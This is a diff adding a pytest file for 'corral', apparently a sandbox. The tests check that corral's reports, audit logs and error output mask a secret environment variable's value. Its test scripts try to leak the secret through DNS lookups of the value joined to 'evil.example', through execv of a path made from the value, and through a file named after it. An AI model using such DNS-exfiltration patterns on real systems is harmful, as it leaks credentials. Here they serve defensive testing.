@@ -1,0 +1,108 @@
+"""Let a target put its secrets into names, paths and programs. No text of corral may contain them."""
+
+from __future__ import annotations
+
+import json
+import os
+import pathlib
+import shutil
+import tempfile
+
+import pytest
+
+import corral
+
+VALUE = "s3cr3tValueOf42"
+LOOKUPS = {
+    "name": "look_up(value + '.evil.example')",
+    "lower": "look_up(value.lower() + '.evil.example')",
+    "labels": "look_up(value[:6] + '.' + value[6:] + '.evil.example')",
+    "half": "look_up(value[3:] + '.evil.example')",
+}
+ACTS = {
+    **LOOKUPS,
+    "program": "start(['/bin/' + value])",
+    "file": "open(os.path.expanduser('~/' + value), 'w').write('lost')",
+}
+SCRIPT = """
+import os, socket, subprocess
+value = os.environ["TOK"]
+def look_up(name):
+    try:
+        socket.getaddrinfo(name, 80)
+    except OSError:
+        pass
+def start(words):
+    try:
+        os.execv(words[0], words)
+    except OSError:
+        pass
+look_up("plain.example")
+"""
+
+
+def texts_of(user, done, *files) -> list[str]:
+    """Return everything that corral wrote: on stderr, into the files, and for `corral why`."""
+    kept = pathlib.Path(user.home, ".local", "state", "corral", "denials").rglob("*.jsonl")
+    why = user.corral("why", "--json").stdout.decode()
+    return [
+        done.stderr.decode(),
+        why,
+        *(path.read_text() for path in (*map(pathlib.Path, files), *kept)),
+    ]
+
+
+def has_value(text: str) -> bool:
+    letters = "".join(one for one in text.lower() if one.isalnum())
+    return VALUE[3:].lower() in letters
+
+
+@pytest.fixture
+def place(user):
+    made = pathlib.Path(tempfile.mkdtemp(prefix="texts-", dir=user.home))
+    os.chown(made, user.owner, user.owner)
+    yield made
+    shutil.rmtree(made)
+
+
+@pytest.mark.parametrize(
+    ("act", "how"), [*((act, "--secret") for act in ACTS), ("name", "--env"), ("program", "--env")]
+)
+def test_no_text_of_a_denial_has_a_secrets_value(user, place, act, how):
+    name = "TOK" if how == "--secret" else "TOK_TOKEN"
+    script = SCRIPT.replace('"TOK"', f'"{name}"') + ACTS[act]
+    env = user.environment(**{name: VALUE})
+    files = [str(place / one) for one in ("run.json", "run.html", "audit.jsonl")]
+    flags = ("--audit", files[2], how, name)
+    done = user.run(user.python, "-c", script, flags=("--report", files[0], *flags), env=env)
+    page = user.run(user.python, "-c", script, flags=("--report", files[1], *flags), env=env)
+    assert done.returncode == page.returncode == 0, done.stderr
+    report, html, audit = (pathlib.Path(path).read_text() for path in files)
+    texts = (*texts_of(user, done), page.stderr.decode(), report, html, audit)
+    assert not any(map(has_value, texts))
+    assert all("***" in text for text in (done.stderr.decode(), report, html))
+    denials = {row["destination"]: row for row in json.loads(report)["denials"]}
+    assert denials["plain.example"]["allow"] == "--allow-net plain.example"
+    if act in LOOKUPS:
+        (hidden,) = [row for row in denials.values() if "***" in row["destination"]]
+        assert hidden["allow"] == ""
+        assert hidden["why"] == f"with the value of {name}"
+
+
+def test_a_value_that_is_not_secret_is_shown(user):
+    """The control: a plain variable's value stays in the name that the target looks up."""
+    env = user.environment(TOK="plainvalue42")
+    script = SCRIPT + LOOKUPS["name"]
+    done = user.run(user.python, "-c", script, flags=("--env", "TOK"), env=env)
+    assert b"denied: name plainvalue42.evil.example; --allow-net" in done.stderr
+
+
+def test_the_python_api_reports_no_secrets_value():
+    script = SCRIPT + LOOKUPS["labels"]
+    policy = {"version": 1, "environment": {"secrets": ["TOK"]}}
+    environment = {**os.environ, "TOK": VALUE}
+    box = corral.launch(["/usr/bin/python3", "-c", script], policy, env=environment)
+    with box:
+        box.wait(60)
+    texts = [row.destination for row in box.report.denials]
+    assert texts == ["plain.example", "***.evil.example"]
